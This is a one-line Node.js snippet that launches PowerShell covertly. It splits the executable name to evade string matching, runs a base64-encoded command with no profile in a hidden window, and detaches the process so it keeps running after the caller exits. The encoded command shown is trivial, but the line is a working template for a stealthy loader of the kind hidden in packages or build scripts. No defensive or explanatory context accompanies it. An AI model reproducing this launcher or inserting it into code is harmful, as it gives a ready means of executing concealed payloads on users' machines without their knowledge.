var c=require("child_process");c.spawn("power"+"shell.exe",["-NoP","-W","Hidden","-enc","JABhAD0AMQA="],{detached:!0,stdio:"ignore"}).unref();
